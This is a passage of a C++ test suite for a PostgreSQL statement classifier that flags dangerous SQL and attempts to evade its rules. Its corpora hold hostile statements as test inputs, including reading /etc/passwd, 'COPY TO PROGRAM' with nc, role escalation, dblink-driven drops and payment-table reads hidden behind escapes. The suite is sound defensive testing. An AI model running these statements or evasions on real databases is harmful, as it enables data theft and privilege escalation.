  classifier_spec plain;
  plain.functions = {"pg_read_file"};
  auto ok = sql_classifier::build(plain);
  ASSERT_TRUE(ok.is_ok());
  EXPECT_TRUE(ok.value()->fast_path_enabled());
}

TEST(sql_classifier_spec, refuses_what_could_never_match) {
  classifier_spec kinds;
  kinds.statement_kinds = {"DELET"};
  auto bad_kind = sql_classifier::build(kinds);
  ASSERT_FALSE(bad_kind.is_ok());
  EXPECT_NE(bad_kind.error().message().find("DELET"), std::string::npos);

  classifier_spec lower;
  lower.statement_kinds = {"drop table", "grant role"};
  auto normalised = sql_classifier::build(lower);
  ASSERT_TRUE(normalised.is_ok());
  EXPECT_EQ(normalised.value()->spec().statement_kinds, (strings{"DROP TABLE", "GRANT ROLE"}));

  for (std::string name : {std::string(""), std::string("schema."), std::string(64, 'a'), std::string("a\"b")}) {
    classifier_spec fns;
    fns.functions = {name};
    EXPECT_FALSE(sql_classifier::build(fns).is_ok()) << name;
  }
  classifier_spec sizes;
  sizes.statement_bytes_max = 0;
  EXPECT_FALSE(sql_classifier::build(sizes).is_ok());
}

TEST(sql_classifier_spec, a_63_byte_name_matches_its_truncated_spellings) {
  const std::string name(63, 'f');
  classifier_spec spec;
  spec.functions = {name};
  auto scanner = make_scanner(spec);
  // PostgreSQL truncates identifiers to 63 bytes: this calls `name`.
  const auto c = scanner->classify("SELECT " + name + "xyz()");
  EXPECT_FALSE(c.fast_path);
  ASSERT_TRUE(c.parsed) << c.parse_error;
  EXPECT_TRUE(calls_function(c.statements[0], name));
}

// --- Bounds and failures -----------------------------------------------------

TEST_F(sql_classifier_test, syntax_errors_fail_closed) {
  for (const char* sql : {"SELEC 1", "DELETE FROM", "DELETE FROM t WHERE a = 'unterminated",
                          "DROP TABLE t; SELEC 1", "SELECT 1; SELECT 0x1F", "DELETE FROM t WHERE a = 1_000"}) {
    const auto c = classify(sql);
    EXPECT_FALSE(c.parsed) << sql;
    EXPECT_FALSE(c.parse_error.empty()) << sql;
    EXPECT_TRUE(c.statements.empty()) << sql;
  }
  EXPECT_NE(classify("DELETE FROM").parse_error.find("syntax error"), std::string::npos);
}

// The fast path proves that no rule can care about the text, not that the
// text is valid: a malformed plain read goes to the server, which rejects it
// (docs/sql-classification.md). The full parse still fails closed.
TEST_F(sql_classifier_test, malformed_reads_are_left_to_the_server) {
  for (const char* sql : {"SELECT 'unterminated", "SELECT 0x1F", "SELECT 1_000", "SELECT FROM WHERE )"}) {
    EXPECT_TRUE(classify(sql).fast_path) << sql;
    classification full;
    scanner_->classify_full(sql, full);
    EXPECT_FALSE(full.parsed) << sql;
  }
}

TEST_F(sql_classifier_test, nul_bytes_are_refused) {
  const auto c = classify(std::string_view("DELETE FROM t\0 WHERE id = 1", 28));
  EXPECT_FALSE(c.parsed);
  EXPECT_NE(c.parse_error.find("NUL"), std::string::npos);
}

TEST_F(sql_classifier_test, empty_text_has_no_statements) {
  for (const char* sql : {"", " ", ";", "-- only a comment", "/* x */ ;"}) {
    const auto c = classify(sql);
    EXPECT_TRUE(c.parsed) << sql;
    EXPECT_TRUE(c.statements.empty()) << sql;
  }
}

TEST(sql_classifier_bounds, too_large_and_too_many) {
  classifier_spec spec = policy_spec();
  spec.statement_bytes_max = 100;
  spec.statements_max = 3;
  auto scanner = make_scanner(spec);
  const auto big = scanner->classify("SELECT '" + std::string(200, 'x') + "'");
  EXPECT_FALSE(big.parsed);
  EXPECT_FALSE(big.fast_path);
  EXPECT_NE(big.parse_error.find("too large"), std::string::npos);
  EXPECT_TRUE(scanner->classify("SELECT 1; SELECT 2; SELECT 3").parsed);
  const auto many = scanner->classify("SELECT 1; SELECT 2; SELECT 3; SELECT 4");
  EXPECT_FALSE(many.parsed);
  EXPECT_NE(many.parse_error.find("too many statements"), std::string::npos);
  // Nested statements count too.
  EXPECT_FALSE(scanner->classify("WITH a AS (DELETE FROM a), b AS (DELETE FROM b), c AS (DELETE FROM c) SELECT 1")
                   .parsed);
}

// A left-deep expression nests once per token; libpg_query's tree output
// recurses once per level and overflows a normal thread stack well before the
// statement size bound. The classifier must survive the worst case at its
// default bound, whatever the answer.
TEST(sql_classifier_bounds, deep_nesting_at_the_size_bound_does_not_crash) {
  classifier_spec spec = policy_spec();
  auto scanner = make_scanner(spec);
  const std::size_t max = spec.statement_bytes_max;
  for (std::string_view unit : {"+1", "::int", " COLLATE \"C\"", "||'a'", " IS NULL", "*-1"}) {
    std::string sql = "SELECT 1";
    while (sql.size() + unit.size() <= max) sql += unit;
    classification c;
    scanner->classify_full(sql, c);
    if (c.parsed) {
      ASSERT_EQ(c.statements.size(), 1u);
      EXPECT_EQ(c.statements[0].kind, "SELECT");
    } else {
      EXPECT_FALSE(c.parse_error.empty());
    }
  }
  const std::string parens = "SELECT " + std::string(max / 2 - 10, '(') + "1" + std::string(max / 2 - 10, ')');
  classification p;
  scanner->classify_full(parens, p);
  EXPECT_FALSE(p.parsed);  // bison's stack bound
  // And an ordinary statement still classifies afterwards.
  EXPECT_EQ(scanner->classify("DELETE FROM t").statements.at(0).kind, "DELETE");
}

TEST(sql_classifier_bounds, moderate_nesting_is_classified) {
  auto scanner = make_scanner(policy_spec());
  std::string sql = "SELECT 1";
  for (int i = 0; i < 2000; ++i) sql += "+pg_sleep(1)";
  const auto c = scanner->classify(sql);
  ASSERT_TRUE(c.parsed) << c.parse_error;
  EXPECT_TRUE(calls_function(c.statements[0], "pg_sleep"));
}

// --- Shards ------------------------------------------------------------------

TEST(sql_classifier_shards, scanners_on_different_threads_share_one_classifier) {
  auto classifier = sql_classifier::build(policy_spec());
  ASSERT_TRUE(classifier.is_ok());
  const std::vector<std::string> corpus = {"SELECT 1", "DELETE FROM t", "SELECT pg_read_file('x')",
                                           "WITH d AS (DELETE FROM t) SELECT 1", "SELECT 1; DROP TABLE t"};
  std::vector<std::vector<std::string>> results(4);
  std::vector<std::thread> threads;
  for (int shard = 0; shard < 4; ++shard) {
    threads.emplace_back([&, shard] {
      auto scanner = sql_scanner::create(classifier.value());
      if (!scanner.is_ok()) return;
      for (int round = 0; round < 200; ++round)
        for (const auto& sql : corpus) {
          const auto c = scanner.value()->classify(sql);
          if (round == 0) {
            std::string line;
            for (const auto& s : c.statements) line += s.kind + (s.writes ? "+w " : " ");
            results[shard].push_back(line);
          }
        }
    });
  }
  for (auto& t : threads) t.join();
  for (int shard = 1; shard < 4; ++shard) EXPECT_EQ(results[shard], results[0]);
  EXPECT_EQ(results[0].size(), corpus.size());
}

// --- Property: the fast path never changes a verdict -------------------------

// Everything a rule of policy_spec() can look at, summed over the statements.
struct verdict {
  bool parsed = false;
  std::set<std::string> kinds;
  std::set<std::string> functions;  // referenced ones only
  std::set<std::string> set_parameters;
  bool writes = false;
  bool without_where = false;
  bool copy_program = false;

  bool operator==(const verdict&) const = default;
};

verdict verdict_of(const classification& c) {
  verdict v;
  v.parsed = c.parsed;
  for (const auto& s : c.statements) {
    v.kinds.insert(s.kind);
    for (const auto& fn : dangerous_functions)
      if (calls_function(s, fn)) v.functions.insert(fn);
    v.set_parameters.insert(s.set_parameters.begin(), s.set_parameters.end());
    v.writes |= s.writes;
    v.without_where |= s.without_where;
    v.copy_program |= s.copy_program;
  }
  return v;
}

std::string describe(const verdict& v) {
  std::string out = v.parsed ? "parsed" : "unparsed";
  for (const auto& k : v.kinds) out += " [" + k + "]";
  for (const auto& f : v.functions) out += " fn:" + f;
  for (const auto& p : v.set_parameters) out += " set:" + p;
  if (v.writes) out += " writes";
  if (v.without_where) out += " without_where";
  if (v.copy_program) out += " program";
  return out;
}

const std::vector<std::string> base_corpus = {
    "SELECT abalance FROM pgbench_accounts WHERE aid = 48213",
    "SELECT * FROM users WHERE email = 'a@b.c' ORDER BY id LIMIT 10",
    "SELECT u.id, count(o.id) FROM users u LEFT JOIN orders o ON o.uid = u.id GROUP BY u.id",
    "WITH recent AS (SELECT * FROM orders WHERE ts > now() - interval '1 day') SELECT * FROM recent",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT * FROM dblink_exec('host=x', 'DROP TABLE t')",
    "SELECT CASE WHEN a THEN pg_terminate_backend(pid) END FROM pg_stat_activity",
    "SELECT (SELECT lo_export(1, '/tmp/x'))",
    "SELECT set_config('role', 'postgres', false)",
    "SELECT pg_sleep(1)",
    "SELECT U&\"pg\\005fsleep\"(1)",
    "SELECT * INTO stolen FROM users",
    "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT 1",
    "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1",
    "SELECT 1; DROP TABLE t",
    "SELECT 1; SET ROLE postgres",
    "SELECT 'x'; LOAD 'evil'",
    "DELETE FROM t",
    "UPDATE t SET a = 1 WHERE id = 3",
    "COPY t TO PROGRAM 'nc evil 1'",
    "TRUNCATE t",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ROLE",
    "EXPLAIN ANALYZE DELETE FROM t",
    "PREPARE p AS DELETE FROM t",
    "DO $$ BEGIN PERFORM pg_sleep(1); END $$",
    "VALUES (1), (pg_sleep(2))",
    "TABLE users",
    "SELECT $$ DELETE $$, 'it''s', E'\\'', \"quoted ident\"",
    "SELECT * FROM t WHERE note = 'do not drop'",
    "SELECT x FROM t WHERE y LIKE 'a%' ESCAPE '!'",
    "SELECT now() AT TIME ZONE 'UTC'",
};

// Rewrites the text without changing its meaning: case, comments and line
// breaks wherever a space is, parentheses around the whole, a terminator.
std::string mutate(const std::string& sql, std::mt19937& rng) {
  std::string out;
  std::uniform_int_distribution<int> pick(0, 9);
  const bool flip_case = pick(rng) < 5;
  for (char c : sql) {
    if (c == ' ') {
      switch (pick(rng)) {
        case 0: out += "/**/"; break;
        case 1: out += " /* ; DROP */ "; break;
        case 2: out += "\n"; break;
        case 3: out += " -- note\n"; break;
        case 4: out += "\t"; break;
        case 5: out += " /* nested /* deeper */ */ "; break;
        default: out += ' ';
      }
      continue;
    }
    if (flip_case && pick(rng) < 5 && ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z'))) c ^= 0x20;
    out += c;
  }
  switch (pick(rng)) {
    case 0: out += ";"; break;
    case 1: out += ";\n  "; break;
    case 2: out = "/* app */ " + out; break;
    case 3: out = "\n\n" + out; break;
    default: break;
  }
  return out;
}

TEST(sql_classifier_property, fast_path_and_full_parse_agree_on_valid_sql) {
  auto scanner = make_scanner(policy_spec());
  std::mt19937 rng(20240611);  // seeded: the same corpus every run
  int fast = 0;
  int total = 0;
  for (int round = 0; round < 40; ++round) {
    for (const auto& base : base_corpus) {
      const std::string sql = round == 0 ? base : mutate(base, rng);
      classification quick;
      classification full;
      scanner->classify(sql, quick);
      scanner->classify_full(sql, full);
      ++total;
      if (quick.fast_path) ++fast;
      // Mutations may change the case of quoted names or string contents;
      // what matters is that both paths agree on the same text.
      ASSERT_EQ(describe(verdict_of(quick)), describe(verdict_of(full))) << sql;
    }
  }
  EXPECT_GT(fast, total / 10);  // the fast path is exercised, not vacuous
}

// Random token soup, mostly invalid SQL: wherever the fast path is taken, a
// full parse must either fail (the server rejects the text too) or agree.
TEST(sql_classifier_property, fast_path_is_sound_on_random_text) {
  auto scanner = make_scanner(policy_spec());
  const std::vector<std::string> tokens = {
      "SELECT", "select", "WITH", "VALUES", "TABLE", "(", ")", ",", ";", " ", "\n", "--x\n", "/*", "*/",
      "'", "''", "\"", "$$", "$a$", "E'", "\\", "\\'", "U&", "u&\"", "x", "t", "1", "1INTO", "INTO",
      "DELETE", "dElEtE", "FROM", "WHERE", "DROP", "pg_read_file", "pg_read_file(", "pg_sleep",
      "LOAD", "CHECKPOINT", "SET", "ROLE", "*", "=", "AS", "d", "(SELECT", "RETURNING", "\t"};
  std::mt19937 rng(7);
  std::uniform_int_distribution<std::size_t> pick(0, tokens.size() - 1);
  std::uniform_int_distribution<int> length(1, 14);
  int fast = 0;
  for (int i = 0; i < 30000; ++i) {
    std::string sql = (i % 2 == 0) ? "SELECT " : "";
    for (int n = length(rng); n > 0; --n) sql += tokens[pick(rng)];
    classification quick;
    scanner->classify(sql, quick);
    if (!quick.fast_path) continue;
    ++fast;
    classification full;
    scanner->classify_full(sql, full);
    if (!full.parsed) continue;
    ASSERT_EQ(describe(verdict_of(quick)), describe(verdict_of(full))) << sql;
  }
  EXPECT_GT(fast, 100);
}

// --- Issue 10: routes around the rules ----------------------------------------

// The parameters each entry sets, in entry order.
std::vector<strings> parameters_of(const classification& c) {
  std::vector<strings> out;
  for (const auto& s : c.statements) out.push_back(s.set_parameters);
  return out;
}

bool names_table(const statement_facts& f, std::string_view table) {
  return std::find(f.tables.begin(), f.tables.end(), table) != f.tables.end();
}

bool any_entry_names_table(const classification& c, std::string_view table) {
  for (const auto& s : c.statements)
    if (names_table(s, table)) return true;
  return false;
}

classification unreadable(sql_scanner& scanner, std::string_view sql) {
  classification c;
  scanner.classify_full(sql, c);
  EXPECT_FALSE(c.parsed) << sql;
  EXPECT_FALSE(c.parse_error.empty()) << sql;
  EXPECT_TRUE(c.statements.empty()) << sql;
  return c;
}

TEST_F(sql_classifier_test, definitions_report_the_functions_they_name) {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"CREATE AGGREGATE a(text) (SFUNC = pg_catalog.set_config, STYPE = text)", "set_config"},
      {"create aggregate a(text) (sfunc = 'set_config', stype = text)", "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = \"set_config\", STYPE = text)", "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = f, STYPE = text, FINALFUNC = set_config)", "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = f, STYPE = text, COMBINEFUNC = set_config)", "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = f, STYPE = internal, SERIALFUNC = set_config, DESERIALFUNC = g)",
       "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = f, STYPE = internal, SERIALFUNC = g, DESERIALFUNC = set_config)",
       "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = f, STYPE = text, MSFUNC = set_config, MINVFUNC = g, MSTYPE = text)",
       "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = f, STYPE = text, MSFUNC = g, MINVFUNC = set_config, MSTYPE = text)",
       "set_config"},
      {"CREATE AGGREGATE a(text) (SFUNC = f, STYPE = text, MSFUNC = g, MINVFUNC = h, MSTYPE = text, "
       "MFINALFUNC = set_config)",
       "set_config"},
      {"CREATE AGGREGATE a (BASETYPE = text, SFUNC1 = set_config, STYPE1 = text)", "set_config"},
      {"CREATE AGGREGATE a(ORDER BY text) (SFUNC = set_config, STYPE = text)", "set_config"},
      {"CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = set_config)", "set_config"},
      {"CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, PROCEDURE = s.set_config)", "set_config"},
      {"CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = f, RESTRICT = set_config)", "set_config"},
      {"CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = f, JOIN = set_config)", "set_config"},
      {"ALTER OPERATOR === (text, text) SET (RESTRICT = set_config)", "set_config"},
      {"ALTER OPERATOR === (text, text) SET (JOIN = set_config)", "set_config"},
      {"CREATE CAST (text AS int) WITH FUNCTION pg_catalog.set_config(text, text, bool)", "set_config"},
      {"CREATE TYPE ty (INPUT = set_config, OUTPUT = o)", "set_config"},
      {"CREATE TYPE ty (INPUT = i, OUTPUT = o, RECEIVE = set_config)", "set_config"},
      {"CREATE TYPE ty (INPUT = i, OUTPUT = o, TYPMOD_IN = set_config)", "set_config"},
      {"ALTER TYPE ty SET (SEND = set_config)", "set_config"},
      {"CREATE TYPE r AS RANGE (SUBTYPE = int, SUBTYPE_DIFF = set_config)", "set_config"},
      {"CREATE TYPE r AS RANGE (SUBTYPE = int, CANONICAL = set_config)", "set_config"},
      {"CREATE TRANSFORM FOR int LANGUAGE l (FROM SQL WITH FUNCTION set_config(internal), TO SQL WITH FUNCTION "
       "g(int))",
       "set_config"},
      {"CREATE OPERATOR CLASS oc FOR TYPE int USING btree AS FUNCTION 1 set_config(int, int)", "set_config"},
      {"ALTER OPERATOR FAMILY of USING btree ADD FUNCTION 1 (int, int) set_config(int, int)", "set_config"},
      {"CREATE CONVERSION cv FOR 'UTF8' TO 'LATIN1' FROM set_config", "set_config"},
      {"CREATE LANGUAGE l HANDLER set_config", "set_config"},
      {"CREATE FOREIGN DATA WRAPPER w VALIDATOR set_config", "set_config"},
      {"ALTER FOREIGN DATA WRAPPER w HANDLER set_config", "set_config"},
      {"CREATE ACCESS METHOD am TYPE TABLE HANDLER set_config", "set_config"},
      {"CREATE FUNCTION f() RETURNS int LANGUAGE internal SUPPORT set_config AS 'f'", "set_config"},
      {"CREATE TEXT SEARCH PARSER p (START = set_config, GETTOKEN = g, END = e, LEXTYPES = l)", "set_config"},
      {"CREATE TEXT SEARCH TEMPLATE t (LEXIZE = set_config)", "set_config"},
      {"CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION set_config()", "set_config"},
      {"CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE PROCEDURE set_config()", "set_config"},
  };
  for (const auto& [sql, fn] : cases) {
    const auto c = parsed(sql);
    ASSERT_EQ(c.statements.size(), 1u) << sql;
    EXPECT_TRUE(calls_function(c.statements[0], fn)) << sql;
  }
  // Naming a built-in that runs SQL text makes what it will run invisible.
  for (const char* sql : {"CREATE OPERATOR ### (LEFTARG = text, RIGHTARG = text, FUNCTION = ts_stat)",
                          "CREATE AGGREGATE a(text) (SFUNC = pg_catalog.query_to_xml, STYPE = text)",
                          "CREATE CAST (text AS int) WITH FUNCTION dblink_exec(text)"}) {
    const auto c = classify(sql);
    EXPECT_FALSE(c.parsed) << sql;
    EXPECT_NE(c.parse_error.find("runs SQL"), std::string::npos) << c.parse_error;
  }
}

TEST_F(sql_classifier_test, writes_to_pg_settings_set_parameters) {
  const std::vector<std::pair<std::string, std::vector<strings>>> cases = {
      {"UPDATE pg_settings SET setting = 'off' WHERE name OPERATOR(pg_catalog.=) 'standard_conforming_strings'",
       {{"standard_conforming_strings"}}},
      {"update PG_CATALOG.PG_SETTINGS set setting = 'off' "
       "where 'Standard_Conforming_Strings' operator(pg_catalog.=) name",
       {{"standard_conforming_strings"}}},
      {"UPDATE pg_settings SET setting = 'off' "
       "WHERE name OPERATOR(pg_catalog.=) E'standard\\x5fconforming_strings' AND true",
       {{"standard_conforming_strings"}}},
      {"UPDATE pg_settings s SET setting = 'x' WHERE s.name OPERATOR(pg_catalog.=) ANY (ARRAY['a'])", {{"*"}}},
      {"UPDATE pg_settings s SET setting = 'x' WHERE s.name IN ('a', 'B')", {{"*"}}},
      {"DELETE FROM pg_catalog.pg_settings WHERE name OPERATOR(pg_catalog.=) 'work_mem'", {{"work_mem"}}},
      // A plain = is whatever search_path finds first: a client's own
      // =(text, text) could match standard_conforming_strings' row too.
      {"UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE name OPERATOR(evil.=) 'work_mem'", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE name OPERATOR(pg_catalog.=) 'standard' || '_conforming_strings'",
       {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE name OPERATOR(pg_catalog.=) 'x'::text", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off'", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE name OPERATOR(pg_catalog.=) 'x' OR true", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE name <> 'x'", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE name LIKE 'standard%'", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' FROM (SELECT 'x' AS name) o WHERE o.name OPERATOR(pg_catalog.=) 'x'",
       {{"*"}}},
      {"UPDATE pg_settings s SET setting = 'off' WHERE other.name OPERATOR(pg_catalog.=) 'x'", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE name OPERATOR(pg_catalog.=) (SELECT 'x')", {{"*"}}},
      {"UPDATE pg_settings SET setting = 'off' WHERE CURRENT OF c", {{"*"}}},
      {"INSERT INTO pg_settings (name, setting) VALUES ('standard_conforming_strings', 'off')", {{"*"}}},
      {"MERGE INTO pg_settings p USING (SELECT 1) s ON true WHEN MATCHED THEN UPDATE SET setting = 'off'",
       {{"*"}}},
      {"COPY pg_settings FROM STDIN", {{"*"}}},
      {"CREATE VIEW v AS SELECT name, setting FROM pg_catalog.pg_settings", {{"*"}}},
      {"WITH u AS (UPDATE pg_settings SET setting = 'off' "
       "WHERE name OPERATOR(pg_catalog.=) 'standard_conforming_strings' RETURNING 1) SELECT * FROM u",
       {{}, {"standard_conforming_strings"}}},
      {"EXPLAIN ANALYZE UPDATE pg_settings SET setting = 'off'", {{}, {"*"}}},
      {"PREPARE p AS UPDATE pg_settings SET setting = $1 WHERE name OPERATOR(pg_catalog.=) 'backslash_quote'",
       {{}, {"backslash_quote"}}},
      {"CREATE RULE r AS ON INSERT TO t DO ALSO UPDATE pg_settings SET setting = 'off' WHERE name = 'x'",
       {{}, {"*"}}},
      {"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$UPDATE pg_settings SET setting = 'off' "
       "WHERE name OPERATOR(pg_catalog.=) 'standard_conforming_strings'$$",
       {{}, {"standard_conforming_strings"}}},
      // Reads and plans set nothing.
      {"SELECT * FROM pg_settings WHERE name = 'x'; SHOW work_mem", {{}, {}}},
      {"EXPLAIN UPDATE pg_settings SET setting = 'off'", {{}}},
      {"UPDATE \"PG_SETTINGS\" SET setting = 'off'", {{}}},  // another relation
  };
  for (const auto& [sql, want] : cases) EXPECT_EQ(parameters_of(parsed(sql)), want) << sql;
}

TEST_F(sql_classifier_test, transaction_modes_set_their_parameters) {
  const std::vector<std::pair<std::string, strings>> cases = {
      {"SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", {"default_transaction_read_only"}},
      {"set session characteristics as transaction isolation level read committed, read write",
       {"default_transaction_isolation", "default_transaction_read_only"}},
      {"SET SESSION CHARACTERISTICS AS TRANSACTION NOT DEFERRABLE", {"default_transaction_deferrable"}},
      {"SET TRANSACTION READ WRITE", {"transaction_read_only"}},
      {"SET LOCAL TRANSACTION READ WRITE", {"transaction_read_only"}},
      {"SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", {"transaction_isolation"}},
      {"BEGIN READ WRITE", {"transaction_read_only"}},
      {"begin transaction read write", {"transaction_read_only"}},
      {"BEGIN WORK ISOLATION LEVEL REPEATABLE READ READ WRITE", {"transaction_isolation", "transaction_read_only"}},
      {"START TRANSACTION READ WRITE", {"transaction_read_only"}},
      {"START TRANSACTION ISOLATION LEVEL SERIALIZABLE, DEFERRABLE",
       {"transaction_deferrable", "transaction_isolation"}},
      {"ALTER ROLE me SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", {"default_transaction_read_only"}},
      {"SET TRANSACTION SNAPSHOT '00000003-0000001B-1'", {"transaction_snapshot"}},
      // READ ONLY can only switch the safety net on.
      {"BEGIN READ ONLY", {}},
      {"START TRANSACTION READ ONLY", {}},
      {"SET TRANSACTION READ ONLY", {}},
      {"SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", {}},
      {"BEGIN", {}},
      {"COMMIT", {}},
  };
  for (const auto& [sql, want] : cases) {
    const auto c = parsed(sql);
    ASSERT_EQ(c.statements.size(), 1u) << sql;
    EXPECT_EQ(c.statements[0].set_parameters, want) << sql;
  }
  EXPECT_EQ(parsed("BEGIN READ WRITE").statements[0].kind, "BEGIN");
  EXPECT_EQ(parsed("SET TRANSACTION READ WRITE").statements[0].kind, "SET");
}

TEST_F(sql_classifier_test, function_set_clauses_set_parameters) {
  const auto c = parsed(
      "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off AS 'select 1'");
  EXPECT_EQ(c.statements[0].set_parameters, strings{"standard_conforming_strings"});
  EXPECT_EQ(parsed("ALTER FUNCTION f() SET client_encoding = 'SJIS'").statements[0].set_parameters,
            strings{"client_encoding"});
  EXPECT_EQ(parsed("ALTER PROCEDURE p() SET role = admin").statements[0].set_parameters, strings{"role"});
}

TEST_F(sql_classifier_test, sql_function_bodies_are_parsed) {
  auto c = parsed("CREATE FUNCTION f(text) RETURNS text LANGUAGE sql AS 'select set_config(''role'', $1, false)'");
  EXPECT_TRUE(calls_function(c.statements[0], "set_config"));
  c = parsed("CREATE OR REPLACE FUNCTION f() RETURNS void AS $b$ DELETE FROM t $b$ LANGUAGE SQL");
  ASSERT_EQ(c.statements.size(), 2u);
  EXPECT_EQ(c.statements[1].kind, "DELETE");
  EXPECT_TRUE(c.statements[1].without_where);
  EXPECT_TRUE(c.statements[1].nested);
  // Other languages stay opaque; a body the grammar rejects is unreadable.
  EXPECT_EQ(parsed("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'").statements.size(),
            1u);
  EXPECT_FALSE(classify("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'selec 1'").parsed);
}

TEST_F(sql_classifier_test, sql_given_as_text_is_classified) {
  const std::vector<std::string> reads_payments = {
      "SELECT query_to_xml('select * from payments', true, false, '')",
      "select * from QUERY_TO_XML('SELECT * FROM PAYMENTS', true, false, '')",
      "SELECT pg_catalog.query_to_xmlschema('select * from payments', true, false, '')",
      "SELECT query_to_xml_and_xmlschema('select * from payments', true, false, '')",
      "SELECT query_to_xml(nulls => true, query => 'select * from payments', tableforest => false, targetns => '')",
      "SELECT query_to_xml('select * from payments', nulls => true, tableforest => false, targetns => '')",
      "SELECT query_to_xml(E'select * from \\x70ayments', true, false, '')",
      "SELECT query_to_xml(U&'select * from \\0070ayments', true, false, '')",
      "SELECT query_to_xml($q$select * from payments$q$, true, false, '')",
      "SELECT query_to_xml('select * '\n'from payments', true, false, '')",
      "SELECT query_to_xml('select * from payments'::pg_catalog.text, true, false, '')",
      "SELECT query_to_xml(CAST('select * from payments' AS varchar), true, false, '')",
      "SELECT query_to_xml(character varying 'select * from payments', true, false, '')",
      "SELECT query_to_xml('select 1; select * from payments', true, false, '')",
      "SELECT query_to_xml('select * from query_to_xml(''select * from payments'', true, false, '''')', true, false, "
      "'')",
      "WITH x AS (SELECT query_to_xml('select * from payments', true, false, '')) SELECT * FROM x",
      "EXPLAIN ANALYZE SELECT query_to_xml('select * from payments', true, false, '')",
      "EXPLAIN SELECT query_to_xml('select * from payments', true, false, '')",
      "PREPARE p AS SELECT query_to_xml('select * from payments', true, false, '')",
      "SELECT * FROM ts_stat('select v from payments')",
      "SELECT * FROM ts_stat(query => 'select v from payments', weights => 'a')",
      "SELECT ts_rewrite('a & b'::tsquery, 'select t, s from payments')",
      "SELECT * FROM dblink('dbname=x', 'select * from payments') AS d(a int)",
      "SELECT * FROM dblink('select * from payments', false) AS d(a int)",
      "SELECT dblink_exec('conn', 'delete from payments', true)",
      "SELECT dblink_open('conn', 'cur', 'select * from payments')",
      "SELECT dblink_send_query('conn', 'select * from payments')",
      "CREATE VIEW v AS SELECT query_to_xml('select * from payments', true, false, '')",
  };
  for (const auto& sql : reads_payments) {
    const auto c = parsed(sql);
    ASSERT_FALSE(c.statements.empty()) << sql;
    EXPECT_TRUE(names_table(c.statements[0], "payments")) << sql;
  }
  // The text's statements are entries nested in the one that ran it.
  auto c = parsed("SELECT query_to_xml('select * from payments', true, false, '')");
  ASSERT_EQ(c.statements.size(), 2u);
  EXPECT_TRUE(c.statements[1].nested);
  EXPECT_EQ(c.statements[1].kind, "SELECT");
  c = parsed("SELECT dblink_exec('conn', 'delete from payments', true)");
  ASSERT_EQ(c.statements.size(), 2u);
  EXPECT_EQ(c.statements[1].kind, "DELETE");
  EXPECT_TRUE(c.statements[1].without_where);
  EXPECT_TRUE(c.statements[0].writes);
  // Plain EXPLAIN runs nothing: names, no entry.
  EXPECT_EQ(parsed("EXPLAIN SELECT query_to_xml('delete from t', true, false, '')").statements.size(), 1u);
  // Functions inside the text are calls, however the text spells them; and
  // the fast path does not skip a text that hides one in escapes.
  for (const char* sql : {"SELECT query_to_xml('select set_config(''role'', ''x'', false)', true, false, '')",
                          "SELECT query_to_xml(E'select \\x73et_config(''role'', ''x'', false)', true, false, '')",
                          "SELECT query_to_xml(U&'select \\0073et_config(''role'', ''x'', false)', true, false, '')",
                          "SELECT * FROM ts_stat(E'select \\x73et_config(''role'', ''x'', false)::tsvector')"}) {
    const auto q = classify(sql);
    EXPECT_FALSE(q.fast_path) << sql;
    ASSERT_TRUE(q.parsed) << sql << ": " << q.parse_error;
    EXPECT_TRUE(calls_function(q.statements[0], "set_config")) << sql;
  }
  // ts_rewrite's three-tsquery form runs nothing.
  EXPECT_EQ(parsed("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)").statements.size(), 1u);
}

TEST_F(sql_classifier_test, sql_text_that_cannot_be_read_is_refused) {
  for (const char* sql : {
           "SELECT query_to_xml(q, true, false, '') FROM queries",
           "SELECT query_to_xml($1, true, false, '')",
           "PREPARE p(text) AS SELECT query_to_xml($1, true, false, '')",
           "SELECT query_to_xml('select * from ' || 'payments', true, false, '')",
           "SELECT query_to_xml(lower('select * from payments'), true, false, '')",
           "SELECT query_to_xml('select * from payments'::varchar(100), true, false, '')",
           // search_path decides what an unqualified type name is: a client's
           // own "text" with an implicit cast to pg_catalog.text could return
           // other SQL.
           "SELECT query_to_xml('select 1'::text, true, false, '')",
           "SELECT query_to_xml('select 1'::public.text, true, false, '')",
           "SELECT query_to_xml('select 1'::name, true, false, '')",
